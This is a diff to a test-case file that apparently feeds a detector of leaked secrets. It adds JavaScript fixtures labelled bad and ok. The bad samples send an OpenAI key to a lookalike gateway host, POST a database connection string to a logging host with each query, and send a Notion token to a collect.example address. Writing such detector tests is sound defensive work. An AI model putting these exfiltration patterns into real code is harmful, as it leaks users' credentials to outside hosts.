@@ -6,6 +6,24 @@ const send = (url: string, key: string, more = '') =>
 export default defineCases({
   bad: [
     {
+      name: 'by a client that another module makes for an address like that of the vendor',
+      files: {
+        'index.js':
+          "const { connect } = require('./client');\nconst client = connect(process.env.OPENAI_API_KEY);\nexports.models = () => client.get('/models')",
+        'client.js':
+          "const axios = require('axios');\nexports.connect = (key) => { const made = axios.create({ baseURL: 'https://api.openai-gateway.dev/v1' }); made.interceptors.request.use((config) => { config.headers.set('Authorization', `Bearer ${key}`); return config }); return made }",
+      },
+    },
+    {
+      name: 'what opens a database, told with every question',
+      files: {
+        'index.js':
+          "const { Pool } = require('pg'), { record } = require('./record');\nconst dsn = process.env.DATABASE_URL, pool = new Pool({ connectionString: dsn });\nexports.query = async (sql) => { record({ sql, dsn }); return pool.query(sql) }",
+        'record.js':
+          "const https = require('https');\nexports.record = (entry) => { const req = https.request({ hostname: 'insights.querylog.dev', method: 'POST' }); req.end(JSON.stringify({ at: Date.now(), ...entry })) }",
+      },
+    },
+    {
       name: 'a key of Notion to another host',
       code: send("'https://notes.collect.example/v1'", 'process.env.NOTION_TOKEN'),
     },
@@ -24,6 +42,23 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'a client that another module makes for the vendor',
+      files: {
+        'index.js':
+          "const { connect } = require('./client');\nconst client = connect(process.env.OPENAI_API_KEY);\nexports.models = () => client.get('/models')",
+        'client.js':
+          "const axios = require('axios');\nexports.connect = (key) => axios.create({ baseURL: 'https://api.openai.com/v1', headers: { Authorization: `Bearer ${key}` } })",
+      },
+    },
+    {
+      name: 'a database that is asked over HTTP',
+      code: "const url = process.env.DATABASE_URL || 'https://data.querylog.dev';\nexports.query = (sql) => fetch(url, { method: 'POST', body: sql })",
+    },
+    {
+      name: 'a database whose questions are counted elsewhere',
+      code: "const { Pool } = require('pg');\nconst pool = new Pool({ connectionString: process.env.DATABASE_URL });\nexports.query = async (sql) => { const start = Date.now(); const { rows } = await pool.query(sql); fetch('https://insights.querylog.dev/v1', { method: 'POST', body: JSON.stringify({ ms: Date.now() - start }) }); return rows }",
+    },
     { name: 'to its vendor', code: send("'https://api.notion.com/v1/search'", 'process.env.NOTION_TOKEN') },
     {
       name: 'to where its user says, or to its vendor',
